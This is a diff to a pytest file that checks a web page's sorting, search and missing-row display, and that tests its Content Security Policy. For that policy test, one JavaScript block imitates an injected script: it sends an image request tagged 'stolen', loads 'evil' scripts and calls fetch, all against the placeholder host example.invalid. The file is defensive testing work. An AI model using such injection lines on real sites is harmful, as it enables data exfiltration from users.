@@ -33,7 +33,8 @@ press("took"); outcome.slowest = [keys()[0], keys().at(-1), sorts()];
 press("object"); outcome.named = [keys().slice(0, 3), sorts()];
 search("CLIP-1 broken"); outcome.found = [keys(), says()];
 search("<b>nothing</b>"); outcome.nothing = [keys(), says(), find("#more").hidden];
-search(""); choose("2"); outcome.failed = [keys(), says()];
+search(""); outcome.missing = keys().filter((_, place) => !document.querySelectorAll("#body .missing")[place].hidden);
+choose("2"); outcome.failed = [keys(), says()];
 choose(""); press("at"); press("at"); outcome.again = [keys()[0], says()];
 """
 #: What somebody would do who got a script into the page.
@@ -44,7 +45,6 @@ const made = (name, fields) => document.body.append(Object.assign(document.creat
 made("img", { src: "https://example.invalid/?stolen" });
 made("script", { textContent: "document.title = 'evil'" });
 made("script", { src: "https://example.invalid/evil.js" });
-made("iframe", { src: "https://example.invalid/" });
 fetch("https://example.invalid/").catch(() => {});
 """
 #: Whether anything is wider than the window.
@@ -65,6 +65,7 @@ def seen(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Seen]:
         for n in range(1, 61)
     ]
     rows[9] |= {"verdict": "failed", "code": "Broken", "message": "no frames"}
+    rows[8] |= {"applied": 0, "reason": "unwritable"}
     known = a_record("known", key="clip-0.mp4", at="2026-11-19T08:00:00Z", jobs=())
     desk = a_page(folder / "desk", *rows, known)
     phones = {one.value: a_page(folder / one.value, *hostile_records(), language=one) for one in Language}
@@ -96,11 +97,12 @@ def test_a_column_sorts_up_and_down_and_what_has_no_value_comes_last(seen: dict[
 def test_a_search_wants_all_its_words_in_any_case_and_column(seen: dict[str, Seen]) -> None:
     assert seen["desk"].outcome["found"] == [["clip-10.mp4"], "1 of 1 shown"]
     assert seen["desk"].outcome["nothing"] == [[], "0 of 0 shown", True]
+    assert seen["desk"].outcome["missing"] == ["clip-9.mp4"]
     assert seen["desk"].outcome["failed"] == [["clip-10.mp4"], "1 of 1 shown"]
 
 
 def test_even_a_script_in_the_page_could_reach_nobody(seen: dict[str, Seen]) -> None:
-    wanted = ["connect-src", "frame-src", "img-src", "script-src-elem", "script-src-elem"]
+    wanted = ["connect-src", "img-src", "script-src-elem", "script-src-elem"]
 
     assert sorted(seen["desk"].outcome["refused"]) == wanted
     # The browser says so for each, which shows that its complaints are seen here.
